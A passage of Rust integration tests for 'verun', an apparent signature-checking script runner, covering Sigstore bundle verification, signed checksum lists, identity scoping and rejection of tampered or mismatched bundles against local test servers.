fn json_report_names_identity_and_issuer() {
    let f = Fixture::new();
    let spec = BundleSpec::new().github("verun-test/tool").dsse();
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    let out = f.env.verun([
        "verify",
        f.file.to_str().unwrap(),
        "--bundle",
        bundle.to_str().unwrap(),
        "--cert-identity",
        spec.identity.as_str(),
        "--cert-oidc-issuer",
        &spec.issuer,
        "--trusted-root",
        root.to_str().unwrap(),
        "--json",
    ]);
    assert_verified(&f, &out);
    let report = stdout(&out);
    let _: serde_json::Value = serde_json::from_str(&report).expect("one JSON report");
    for needle in [spec.identity.as_str(), spec.issuer.as_str()] {
        assert!(report.contains(needle), "{needle} not in {report}");
    }
}

#[test]
fn integrated_time_in_the_future_is_refused() {
    let f = Fixture::new();
    let later = now() + 3600;
    let spec = BundleSpec::signed_at(later);
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["future"]);
}

#[test]
fn a_checksum_list_with_a_sigstore_bundle_vouches_for_the_payload() {
    let spec = BundleSpec::new();
    let site = Site::new(&spec);
    // No bundle for the payload itself: only the list is signed.
    let list = gnu_checksums(&[("tool.sh", &site.f.payload)]);
    site.server
        .route("/dl/SHA256SUMS", Reply::bytes(list.as_bytes()));
    let list_bundle = site.f.inst.bundle(list.as_bytes(), &spec);
    site.server
        .route("/dl/SHA256SUMS.sigstore.json", Reply::bytes(list_bundle));
    let sums = format!("{}/dl/SHA256SUMS", site.server.base_url_ip());
    let sums_sig = format!("{sums}.sigstore.json");
    let out = site.verun("run", &["--checksums", &sums, "--checksums-sig", &sums_sig]);
    assert_exit(&out, 0);
    assert_ran(&site.f.marker);
    fs::remove_file(&site.f.marker).unwrap();

    // The list's sibling `SHA256SUMS.sigstore.json` is found without --checksums-sig.
    let out = site.verun("run", &["--checksums", &sums]);
    assert_exit(&out, 0);
    assert_ran(&site.f.marker);
}

#[test]
fn a_checksum_list_whose_sigstore_bundle_is_for_other_bytes_is_refused() {
    let spec = BundleSpec::new();
    let site = Site::new(&spec);
    let list = gnu_checksums(&[("tool.sh", &site.f.payload)]);
    site.server
        .route("/dl/SHA256SUMS", Reply::bytes(list.as_bytes()));
    // A genuine bundle by the trusted identity, but for last release's list.
    let old_list = gnu_checksums(&[("tool.sh", b"last release")]);
    let list_bundle = site.f.inst.bundle(old_list.as_bytes(), &spec);
    site.server
        .route("/dl/SHA256SUMS.sigstore.json", Reply::bytes(list_bundle));
    let sums = format!("{}/dl/SHA256SUMS", site.server.base_url_ip());
    let sums_sig = format!("{sums}.sigstore.json");
    let out = site.verun("run", &["--checksums", &sums, "--checksums-sig", &sums_sig]);
    assert_refused(&site.f, &out, &["digest", "mismatch"]);
}

#[test]
fn the_dot_sigstore_sibling_is_found_when_there_is_no_dot_sigstore_json() {
    let spec = BundleSpec::new();
    let site = Site::new(&spec);
    let bundle = site.f.inst.bundle(&site.f.payload, &spec);
    site.server
        .route("/dl/tool.sh.sigstore", Reply::bytes(bundle));
    let out = site.verun("run", &[]);
    assert_exit(&out, 0);
    assert_ran(&site.f.marker);
}

#[test]
fn a_store_identity_scoped_to_another_prefix_is_no_anchor() {
    let spec = BundleSpec::new();
    let f = Fixture::new();
    let server = TestServer::https();
    let scope = format!("{}/other/", server.base_url_ip());
    let out = f.env.verun([
        "key",
        "add",
        "releaser",
        "--cert-identity",
        spec.identity.as_str(),
        "--cert-oidc-issuer",
        &spec.issuer,
        "--scope",
        &scope,
    ]);
    assert_exit(&out, 0);
    let root = f.root(&RootSpec::public_good());
    server.route("/dl/tool.sh", Reply::bytes(&f.payload));
    server.route(
        "/dl/tool.sh.sigstore.json",
        Reply::bytes(f.inst.bundle(&f.payload, &spec)),
    );
    let url = format!("{}/dl/tool.sh", server.base_url_ip());
    let out = f.env.verun([
        "run",
        &url,
        "--trusted-root",
        root.to_str().unwrap(),
        "--cacert",
        server.ca_pem_path().to_str().unwrap(),
    ]);
    assert_refused(&f, &out, &["scope", "trusted only"]);
}

/// `verun verify FILE --bundle B --key PEM --trusted-root ROOT`.
fn verify_keyed(f: &Fixture, bundle: &Path, root: &Path, key: &Path) -> Output {
    f.env.verun([
        "verify",
        f.file.to_str().unwrap(),
        "--bundle",
        bundle.to_str().unwrap(),
        "--key",
        key.to_str().unwrap(),
        "--trusted-root",
        root.to_str().unwrap(),
    ])
}

#[test]
fn public_key_bundle_verifies_under_its_pem_key_and_not_another() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.keyed = true;
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    let key = f.env.write("cosign.pub", f.inst.cosign_public_pem());
    assert_verified(&f, &verify_keyed(&f, &bundle, &root, &key));

    let other = Instance::new();
    let other_key = f.env.write("other.pub", other.cosign_public_pem());
    let out = verify_keyed(&f, &bundle, &root, &other_key);
    assert_refused(&f, &out, &["invalid signature", "signature verification"]);
}

#[test]
fn public_key_bundle_with_a_broken_inclusion_proof_is_refused() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.keyed = true;
    spec.proof = ProofFault::FlippedHash;
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    let key = f.env.write("cosign.pub", f.inst.cosign_public_pem());
    let out = verify_keyed(&f, &bundle, &root, &key);
    assert_refused(&f, &out, &["inclusion proof"]);
}
